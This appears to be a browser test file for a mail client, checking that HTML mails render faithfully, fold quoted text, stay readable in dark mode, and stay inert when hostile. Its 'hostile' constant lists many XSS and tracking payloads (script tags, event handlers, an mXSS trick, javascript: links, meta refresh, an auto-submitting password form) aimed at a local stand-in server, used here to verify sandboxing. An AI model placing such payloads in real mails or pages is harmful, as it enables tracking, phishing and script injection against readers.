// The HTML of mails: shown as it was meant, folded where it repeats, and harmless whatever is in it.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, test } from "node:test";
import { ask, browser, editor, expected, faults, open, person, receive, until } from "./browser.mjs";

const ada = "ada@demo.test";

/** Another server, which counts what it is asked for. */
const elsewhere = createServer((request, answer) => {
  asked.push(request.url);
  answer.writeHead(200, { "Access-Control-Allow-Origin": "*" }).end("<p>elsewhere</p>");
});
const asked = [];
await new Promise((ready) => elsewhere.listen(0, "127.0.0.1", ready));
const there = `http://127.0.0.1:${elsewhere.address().port}`;
after(async () => {
  await browser.close();
  elsewhere.close();
});

// The tests look into frames that run no scripts, and the browser says so each time.
expected.push(/^console: Blocked script execution in 'about:srcdoc'/);

const frame = (page, nth = 0) => page.locator("[data-html] iframe").nth(nth);
const inside = (page, nth = 0) => frame(page, nth).contentFrame();
const older = "Show older messages that it repeats";
const quote = `<div>On Tue, Apr 11, 2023 at 10:07 PM Ada &lt;ada@demo.test&gt; wrote:</div><blockquote><p>Which tent is it?</p></blockquote>`;

test("a mail looks as it was meant, in the page's colours", { timeout: 60_000 }, async () => {
  const one = await receive(ada, {
    thread: "html-1", subject: "In HTML",
    html: `<p>It is <b>the green one</b>, see <a href="https://shop.example.test/4711?utm=1">my order</a>:</p><ul>${"<li>a peg is missing</li>".repeat(60)}</ul>${quote}`,
  });
  const page = await person(ada);
  await open(page, one.id);
  await until("it is there", () => inside(page).getByText("the green one").isVisible());
  assert.ok((await inside(page).getByText("the green one").evaluate((e) => Number(getComputedStyle(e).fontWeight))) >= 600);
  const sizes = () => frame(page).evaluate((f) => [f.clientHeight, f.contentDocument.body.getBoundingClientRect().height]);
  await until("as high as it is", async () => Math.abs((await sizes())[0] - (await sizes())[1]) < 2 && (await sizes())[0] > 900);
  const region = page.getByRole("region", { name: "Conversation" });
  await until("the thread stays at its end", () => region.evaluate((r) => r.scrollHeight - r.scrollTop - r.clientHeight < 5));

  assert.equal(await inside(page).getByText("Which tent is it?").isVisible(), false, "what it repeats is folded");
  const [before] = await sizes();
  await inside(page).getByLabel(older).click();
  await until("and unfolds", async () => (await inside(page).getByText("Which tent is it?").isVisible()) && (await sizes())[0] > before);

  const ink = () => inside(page).locator("body").evaluate((b) => getComputedStyle(b).color);
  const light = await ink();
  await page.emulateMedia({ colorScheme: "dark" });
  await until("dark", async () => (await ink()) !== light && (await ink()) === (await page.evaluate(() => getComputedStyle(document.body).color)));

  const link = inside(page).getByRole("link", { name: "my order" });
  assert.deepEqual([await link.getAttribute("target"), await link.getAttribute("rel")], ["_blank", "noopener noreferrer nofollow"]);
  await inside(page).getByText("the green one").click();
  await page.keyboard.press("c");
  await until("the page hears keys that are pressed in it", () => editor(page).evaluate((e) => e === document.activeElement));
  assert.deepEqual(faults, []);
  await page.context().close();
});

test("what says no more than text is text, and a program's HTML is shown to agents too", { timeout: 60_000 }, async () => {
  const one = await receive(ada, { thread: "html-2", subject: "As text", html: `<div>The green one.<br></div>${quote}`, text: "The green one.\n\nOn Tue, Apr 11, 2023 at 10:07 PM Ada <ada@demo.test> wrote:\n> Which tent is it?" });
  const page = await person(ada);
  await open(page, one.id);
  const message = page.locator("[data-entry=IncomingMessage]").first();
  await until("the text", () => message.getByText("The green one.", { exact: true }).isVisible());
  await until("folded", async () => (await message.getByLabel(older).isVisible()) && !(await message.getByText("Which tent is it?").isVisible()));
  assert.equal(await frame(page).count(), 0);
  await message.getByLabel(older).click();
  await until("unfolded", () => message.getByText("Which tent is it?").isVisible());
  await ask(ada, "mutation($in: MessageSendInput!) { messageSend(input: $in) { errors { message } } }", { in: { conversationId: one.id, html: "<p>We send <em>ten</em> pegs.</p>" } });
  await until("an answer in HTML, live", () => inside(page).locator("em").getByText("ten").isVisible());
  assert.deepEqual(faults, []);
  await page.context().close();
});

const hostile = `
  <p><b>Read me</b></p>
  <script>fetch("${there}/script"); parent.document.title = "taken"</script>
  <script src="${there}/script.js"></script>
  <img src="${there}/pixel.gif" width="1" height="1"><img src="x" onerror="fetch('${there}/onerror')"><img srcset="${there}/srcset.png 2x">
  <picture><source srcset="${there}/source.png"><img src="${there}/picture.png"></picture>
  <style>@import "${there}/import.css"; body { background: url(${there}/background.png) }</style>
  <link rel="stylesheet" href="${there}/link.css"><link rel="prefetch" href="${there}/prefetch"><link rel="icon" href="${there}/icon">
  <div style="position:fixed;inset:0;z-index:9999;background:url(${there}/style.png)">covered</div>
  <svg onload="fetch('${there}/svg')"><image href="${there}/svg.png"/><use href="${there}/use.svg#a"/><script>fetch("${there}/svg-script")</script></svg>
  <math><mtext><style><img src="${there}/math.png" onerror="fetch('${there}/mxss')"></style></mtext></math>
  <iframe src="${there}/iframe"></iframe><iframe srcdoc="<img src='${there}/srcdoc.png'>"></iframe>
  <object data="${there}/object"></object><embed src="${there}/embed"><video src="${there}/video" poster="${there}/poster" autoplay></video><audio src="${there}/audio" autoplay></audio>
  <form action="${there}/form" method="post"><input name="password" autofocus onfocus="this.form.submit()"><button id="send">Sign in again</button></form>
  <meta http-equiv="refresh" content="0;url=${there}/refresh"><base href="${there}/base/">
  <body onload="fetch('${there}/onload')" background="${there}/body.png"><table background="${there}/table.png"><tr><td>x</td></tr></table>
  <a href="javascript:parent.document.title='taken'" id="js">press me</a><a href="data:text/html,<script>1</script>" id="data">and me</a><a href="/settings" id="part">or me</a>
  <marquee onstart="fetch('${there}/marquee')">m</marquee><details open ontoggle="fetch('${there}/toggle')">d</details>
  <template><img src="${there}/template.png"></template><noscript><img src="${there}/noscript.png"></noscript>
  <!--[if mso]><img src="${there}/mso.png"><![endif]--><p>The end</p>`;

test("the colours of a mail reach the agent, and can be read in both themes", { timeout: 60_000 }, async () => {
  const one = await receive(ada, {
    thread: "html-colours", subject: "In colours",
    html: `<p>I ask?</p><p style="color:#c00">You answer.</p><p style="color:black">In black.</p><p><font color="blue">In blue.</font></p>
      <div style="background-color:#ffff00">On yellow. <a href="https://shop.example.test/1">A link there</a></div>
      <div style="background-color:#0000ee;color:#fff"><a href="https://shop.example.test/2">A link on blue</a></div>
      <p style="text-align:center;font-weight:bold">In the middle.</p>`,
  });
  const page = await person(ada);
  await open(page, one.id);
  await until("it is there", () => inside(page).getByText("You answer.").isVisible());
  const style = (text, name) => inside(page).getByText(text).evaluate((e, n) => getComputedStyle(e)[n], name);
  /** The contrast of a text with what is seen behind it, in the frame or around it. */
  const contrast = (text) =>
    inside(page).getByText(text).evaluate((e) => {
      const clear = (at) => getComputedStyle(at).backgroundColor === "rgba(0, 0, 0, 0)";
      const around = (at) => at.parentElement ?? at.ownerDocument.defaultView.frameElement;
      let behind = e;
      while (clear(behind)) behind = around(behind);
      const light = (css) => {
        const [r, g, b] = css.match(/\d+/g).map((v) => (v / 255 <= 0.04045 ? v / 255 / 12.92 : ((v / 255 + 0.055) / 1.055) ** 2.4));
        return 0.2126 * r + 0.7152 * g + 0.0722 * b + 0.05;
      };
      const [a, b] = [light(getComputedStyle(e).color), light(getComputedStyle(behind).backgroundColor)];
      return Math.max(a, b) / Math.min(a, b);
    });
  const texts = ["I ask?", "You answer.", "In black.", "In blue.", "On yellow.", "A link there", "A link on blue", "In the middle."];
  const readable = async () => (await Promise.all(texts.map(contrast))).every((ratio) => ratio >= 3);

  await until("as its sender has it", async () => (await style("You answer.", "color")) === "rgb(204, 0, 0)" && (await style("In blue.", "color")) === "rgb(0, 0, 255)");
  assert.deepEqual([await style("In the middle.", "textAlign"), await style("In the middle.", "fontWeight"), await style("On yellow.", "backgroundColor")], ["center", "700", "rgb(255, 255, 0)"]);
  await until("all can be read", readable);
  await page.emulateMedia({ colorScheme: "dark" });
  await until("dark", async () => (await style("In black.", "color")) !== "rgb(0, 0, 0)");
  await until("all can be read in the dark", readable);
  assert.notEqual(await style("You answer.", "color"), await style("I ask?", "color"));
  await page.emulateMedia({ colorScheme: "light" });
  await until("light again", async () => (await style("In black.", "color")) === "rgb(0, 0, 0)");
  assert.deepEqual(faults, []);
  await page.context().close();
});

/** The mail is there, and has done nothing. */
async function harmless(page) {
  await until("it is there", () => inside(page).getByText("The end").isVisible());
  const state = () => page.evaluate(() => ({ title: document.title, at: location.pathname, focus: document.activeElement?.tagName ?? "", tabs: window.length }));
  const was = await state();
  for (const id of ["js", "data", "part", "send"]) for (const it of await inside(page).locator("#" + id).all()) await it.click();
  await page.getByRole("button", { name: "More actions" }).click(); // nothing covers the page
  await page.getByRole("menuitem", { name: "Mark as unread" }).waitFor();
  await page.keyboard.press("Escape");
  await page.waitForLoadState("networkidle");
  const now = await state();
  assert.deepEqual([now.title, now.at, page.context().pages().length], [was.title, was.at, 1]);
  assert.notEqual(was.focus, "IFRAME");
  assert.equal(await frame(page).evaluate((f) => f.contentDocument.URL), "about:srcdoc", "the frame shows what it was given");
  assert.deepEqual(asked, [], "nobody else is asked for anything");
}

test("a hostile mail does nothing and asks for nothing", { timeout: 60_000 }, async () => {
  const one = await receive(ada, { thread: "html-3", subject: "Hostile", html: hostile });
  const page = await person(ada);
  await open(page, one.id);
  await harmless(page);
  await until("it says what is left out", () => page.getByText(/pictures? from other servers not shown/).isVisible());
  const left = await frame(page).evaluate((f) => [...f.contentDocument.body.querySelectorAll("*")].flatMap((e) => [e.tagName, ...e.getAttributeNames()]));
  assert.deepEqual(left.filter((n) => /^(SCRIPT|STYLE|LINK|META|BASE|SVG|FORM|INPUT|BUTTON|I?FRAME|OBJECT|EMBED|VIDEO|AUDIO|on.*|style|background|srcset)$/i.test(n)), []);
  assert.deepEqual(faults, [], "not even a complaint of the browser");
  await page.context().close();
});

test("nor does it where the server would let all of it through", { timeout: 60_000 }, async () => {
  const one = await receive(ada, { thread: "html-4", subject: "Hostile too", html: "<p><b>Read me</b></p>" });
  const page = await person(ada);
  await page.routeWebSocket(/\/graphql$/, (socket) => {
    const server = socket.connectToServer();
    server.onMessage((text) => socket.send(String(text).replace(/"safeHtml":"(?:[^"\\]|\\.)*"/g, () => `"safeHtml":${JSON.stringify(hostile)}`)));
  });
  await page.reload();
  await page.locator("[data-row]").first().waitFor();
  // The walls complain, as they should; what they stop is announced as a request, and never sent.
  expected.push(/Content Security Policy|sandboxed|Blocked|Unsafe attempt/i, new RegExp(`a request to ${there}/`));
  await open(page, one.id);
  await harmless(page);
  assert.deepEqual(faults, []);
  await fetch(there + "/counted");
  assert.deepEqual(asked, ["/counted"]);
  await page.context().close();
});
